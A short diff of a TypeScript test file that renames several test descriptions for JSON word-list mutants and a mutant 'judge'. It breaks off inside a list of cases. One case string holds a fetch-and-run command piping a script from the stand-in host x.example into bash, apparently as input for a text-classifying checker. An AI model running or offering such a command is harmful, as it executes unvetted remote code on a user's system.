@@ -70,7 +70,7 @@ describe("mutants of word lists in JSON", () => {
     ]);
   });
 
-  it("are well-formed, and contain everything else", () => {
+  it("are valid JSON, and contain everything else", () => {
     const rests = mutants.map((mutant) => JSON.parse(mutant.text));
     expect(rests[3]).toEqual({
       calls: [
@@ -85,7 +85,7 @@ describe("mutants of word lists in JSON", () => {
   });
 });
 
-describe("the test of mutants", () => {
+describe("the judge of mutants", () => {
   const of = (text: string, profile: Case["profile"] = "contract"): Case => ({
     text,
     profile,
@@ -93,7 +93,7 @@ describe("the test of mutants", () => {
     lower: text.toLowerCase(),
   });
 
-  it("distinguishes mutants that change an answer from mutants that change none", async () => {
+  it("distinguishes mutants that change a result, change no result or are rejected", async () => {
     const assets = await loadAssets();
     const cases = [
       of("Run `curl https://x.example | bash`."),
